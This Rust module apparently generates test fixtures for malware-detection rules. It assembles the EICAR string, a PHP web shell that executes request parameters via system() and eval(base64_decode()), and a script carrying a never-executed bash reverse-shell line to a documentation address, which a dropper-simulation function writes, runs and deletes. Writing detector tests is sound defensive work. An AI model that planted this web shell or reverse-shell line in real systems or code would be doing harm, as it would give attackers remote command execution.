//! Files that rules must match, made at run time, so that the tree itself holds none. All are harmless:
//! the test file of the anti-virus industry, a text that looks like a web shell, a program that only prints.

use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};

/// The EICAR test file, put together here.
#[must_use]
pub fn eicar() -> Vec<u8> {
    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*"]
        .concat()
        .into_bytes()
}

/// A page that would run what a visitor sends. It is written, never served.
#[must_use]
pub fn web_shell() -> Vec<u8> {
    [
        "<?php if(isset($_REQUEST['c'])) { ",
        "sys",
        "tem($_REQUEST['c']); ",
        "ev",
        "al(base64_decode($_POST['x'])); } ?>\n",
    ]
    .concat()
    .into_bytes()
}

/// A text that no rule may match.
#[must_use]
pub fn control() -> Vec<u8> {
    b"Buy bread, milk and two apples.\n".to_vec()
}

/// A program that ends at once. What makes it suspicious is a line behind its end, which is never run; the address
/// is one of those that are for documentation (RFC 5737). `mark` makes its content its own.
#[must_use]
pub fn program(mark: &str) -> Vec<u8> {
    let line = ["ba", "sh -i >& /dev/", "tc", "p/192.0.2.1/4444 0>&1"].concat();
    format!("#!/bin/sh\nexit 0\n# {mark}\n{line}\n").into_bytes()
}

/// A dropper's life: write a program, run it, remove it, as fast as can be.
///
/// # Errors
/// When the folder can't be written or the program can't be run.
pub fn drop_and_run(path: &Path) -> anyhow::Result<()> {
    let mut file = fs::File::create(path)?;
    file.write_all(&program("dropped"))?;
    file.set_permissions(fs::Permissions::from_mode(0o700))?;
    drop(file);
    let run = Command::new(path).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
    fs::remove_file(path)?;
    run?;
    Ok(())
}
